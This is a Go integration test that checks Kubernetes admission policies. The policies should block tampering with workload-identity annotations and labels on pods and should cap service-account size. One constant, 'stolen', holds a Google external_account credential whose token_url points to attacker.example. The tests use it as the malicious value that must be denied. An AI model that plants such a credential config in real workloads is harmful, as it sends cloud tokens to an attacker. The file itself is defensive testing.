// Copyright The Lanyard Authors.
// SPDX-License-Identifier: Apache-2.0

package policies

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"

	"github.com/lanyard-dev/lanyard/pkg/annotations"
	"github.com/lanyard-dev/lanyard/policies"
)

// stolen contains Google credentials that send the token to an attacker.
const stolen = `{"type":"external_account","token_url":"https://attacker.example/"}`

// testFences is about the fences of an installation without the webhook. The expressions are
// those of the chart, which test/integration/fences_test.go tests next to the webhook.
func (c *cluster) testFences(t *testing.T) {
	s := settingsOf(t, "")
	const group = "fences"
	c.install(t, s, group)
	t.Run("marks", func(t *testing.T) { c.testMarks(t, "probe-"+group, s.Marks()) })
	t.Run("sizes", func(t *testing.T) { c.testSizes(t, "probe-"+group) })
}

// deniedBy fails unless the error is a denial of this fence of the group.
func deniedBy(t *testing.T, what, fence string, err error) {
	t.Helper()
	if err == nil || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy '"+fence+"-fences'") {
		t.Errorf("%s: got error %v, want a denial of %s", what, err, fence)
	}
}

func (c *cluster) testMarks(t *testing.T, namespace string, marks []string) {
	ctx, fence := t.Context(), policies.KeepMarks(policies.DefaultName)
	values := map[string]string{"lanyard.dev/aws-role-arn": role, "lanyard.dev/gcp-workload-identity-provider": "projects/1/locations/global/workloadIdentityPools/pool/providers/cluster"}
	c.createAccount(t, namespace, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{
		Name: "marked", Annotations: values, Labels: map[string]string{annotations.IdentityLabel: annotations.IdentityEnabled},
	}})
	c.createAccount(t, namespace, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "plain"}})
	c.waitInjected(t, namespace, "marked", "lanyard.dev/gcp-credentials")
	pods := map[string]*corev1.Pod{}
	for _, account := range []string{"marked", "plain"} {
		pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: account}, Spec: corev1.PodSpec{ServiceAccountName: account, Containers: []corev1.Container{{Name: "main", Image: "image"}}}}
		stored, err := c.client.CoreV1().Pods(namespace).Create(ctx, pod, metav1.CreateOptions{})
		must(t, account, err)
		pods[account] = stored
	}
	// An administrator writes the pod, and a network plugin its status.
	users := map[string]kubernetes.Interface{"": c.client, "status": c.statusWriter(t, namespace)}
	patch := func(through, pod string, change any) error {
		text, err := json.Marshal(change)
		must(t, pod, err)
		_, err = users[through].CoreV1().Pods(namespace).Patch(ctx, pod, types.MergePatchType, text, metav1.PatchOptions{}, strings.Fields(through)...)
		return err
	}
	type fields = map[string]any
	annotate := func(key string, value any) fields {
		return fields{"metadata": fields{"annotations": fields{key: value}}}
	}
	label := func(value any) fields {
		return fields{"metadata": fields{"labels": fields{annotations.IdentityLabel: value}}}
	}
	eventually(t, "the fence around the marks and the role of the network plugin", func() bool {
		err := patch("status", "plain", annotate(annotations.Injected, "x"))
		return err != nil && strings.Contains(err.Error(), fence)
	})
	for through := range users {
		for _, mark := range marks {
			deniedBy(t, "change "+mark, fence, patch(through, "marked", annotate(mark, stolen)))
			deniedBy(t, "add "+mark, fence, patch(through, "plain", annotate(mark, stolen)))
			if value, has := pods["marked"].Annotations[mark]; has {
				deniedBy(t, "remove "+mark, fence, patch(through, "marked", annotate(mark, nil)))
				must(t, "write as it is", patch(through, "marked", annotate(mark, value)))
			}
			with := annotate(mark, stolen)
			with["status"] = fields{"message": "x"}
			deniedBy(t, "change with the status "+mark, fence, patch(through, "marked", with))
		}
		deniedBy(t, "remove the label", fence, patch(through, "marked", label(nil)))
		deniedBy(t, "change the label", fence, patch(through, "marked", label("other")))
		deniedBy(t, "add the label", fence, patch(through, "plain", label("injected")))
		for pod := range pods {
			must(t, "another annotation", patch(through, pod, annotate("cni.example/addresses", "192.0.2.1")))
			must(t, "the status", patch(through, pod, fields{"status": fields{"message": "x"}}))
		}
	}
	for _, mark := range marks {
		binding := &corev1.Binding{ObjectMeta: metav1.ObjectMeta{Name: "plain", Annotations: map[string]string{mark: stolen}}, Target: corev1.ObjectReference{Kind: "Node", Name: "node"}}
		deniedBy(t, "bind with "+mark, fence, c.client.CoreV1().Pods(namespace).Bind(ctx, binding, metav1.CreateOptions{}))
		deniedBy(t, "bindings with "+mark, fence, c.client.CoreV1().RESTClient().Post().Namespace(namespace).Resource("bindings").Body(binding).Do(ctx).Error())
	}
	for name := range pods {
		binding := &corev1.Binding{ObjectMeta: metav1.ObjectMeta{Name: name, Annotations: map[string]string{"scheduler.example/score": "1"}}, Target: corev1.ObjectReference{Kind: "Node", Name: "node"}}
		must(t, "bind "+name, c.client.CoreV1().Pods(namespace).Bind(ctx, binding, metav1.CreateOptions{}))
	}
	stored, err := c.client.CoreV1().Pods(namespace).Get(ctx, "marked", metav1.GetOptions{})
	must(t, "marked", err)
	stored.Spec.EphemeralContainers = []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "debug", Image: "image"}}}
	_, err = c.client.CoreV1().Pods(namespace).UpdateEphemeralContainers(ctx, "marked", stored, metav1.UpdateOptions{})
	must(t, "an ephemeral container", err)
}

// statusWriter returns a client of a user who may write the status of pods, and nothing else.
func (c *cluster) statusWriter(t *testing.T, namespace string) kubernetes.Interface {
	t.Helper()
	const name = "status-writer"
	_, err := c.client.RbacV1().Roles(namespace).Create(t.Context(), &rbacv1.Role{
		ObjectMeta: metav1.ObjectMeta{Name: name},
		Rules:      []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"pods/status"}, Verbs: []string{"patch"}}},
	}, metav1.CreateOptions{})
	must(t, name, err)
	_, err = c.client.RbacV1().RoleBindings(namespace).Create(t.Context(), &rbacv1.RoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: name},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: name},
		Subjects:   []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.UserKind, Name: name}},
	}, metav1.CreateOptions{})
	must(t, name, err)
	config, err := c.plane.User(name)
	must(t, name, err)
	client, err := kubernetes.NewForConfig(config)
	must(t, name, err)
	return client
}

func (c *cluster) testSizes(t *testing.T, namespace string) {
	ctx, fence, api := t.Context(), policies.LimitServiceAccounts(policies.DefaultName), c.client.CoreV1().ServiceAccounts(namespace)
	// small has one annotation, one label and the entry of its field manager.
	small := func(label string) *corev1.ServiceAccount {
		return &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{
			Name: "sized", Annotations: map[string]string{annotations.Audience: "vault"}, Labels: map[string]string{annotations.IdentityLabel: label},
		}}
	}
	annotate := func(a *corev1.ServiceAccount, i int) { a.Annotations[fmt.Sprintf("a/%d", i)] = "" }
	_, err := api.Create(ctx, small(annotations.IdentityEnabled), metav1.CreateOptions{})
	must(t, "small", err)
	for name, grow := range map[string]func(*corev1.ServiceAccount, int){
		"annotations": annotate,
		"labels":      func(a *corev1.ServiceAccount, i int) { a.Labels[fmt.Sprintf("a/%d", i)] = "" },
		"secrets": func(a *corev1.ServiceAccount, i int) {
			a.Secrets = append(a.Secrets, corev1.ObjectReference{Name: fmt.Sprintf("a%d", i)})
		},
		"imagePullSecrets": func(a *corev1.ServiceAccount, i int) {
			a.ImagePullSecrets = append(a.ImagePullSecrets, corev1.LocalObjectReference{Name: fmt.Sprintf("a%d", i)})
		},
		"finalizers": func(a *corev1.ServiceAccount, i int) {
			a.Finalizers = append(a.Finalizers, fmt.Sprintf("example.com/a%d", i))
		},
		"owners": func(a *corev1.ServiceAccount, i int) {
			a.OwnerReferences = append(a.OwnerReferences, metav1.OwnerReference{APIVersion: "v1", Kind: "ConfigMap", Name: fmt.Sprintf("a%d", i), UID: types.UID(fmt.Sprint(i))})
		},
	} {
		for _, label := range []string{annotations.IdentityEnabled, annotations.IdentityRequired} {
			account := small(label)
			account.Name = "grown"
			for i := range 125 {
				grow(account, i)
			}
			_, err := api.Create(ctx, account, dryRun)
			must(t, "128 with "+name, err)
			grow(account, 125)
			_, err = api.Create(ctx, account, dryRun)
			deniedBy(t, "129 with "+name, fence, err)
			account.Name = "sized"
			_, err = api.Update(ctx, account, metav1.UpdateOptions{DryRun: dryRun.DryRun})
			deniedBy(t, "129 with "+name+", later", fence, err)
		}
	}
	// Without the label, the API server never reads it for a pod.
	large := small("")
	large.Name, large.Labels, large.Annotations = "large", nil, map[string]string{}
	for i := range 1000 {
		annotate(large, i)
	}
	_, err = api.Create(ctx, large, dryRun)
	must(t, "a large one without the label", err)
	large.Name = "sized"
	_, err = api.Update(ctx, large, metav1.UpdateOptions{DryRun: dryRun.DryRun})
	must(t, "a large one that loses the label", err)
}
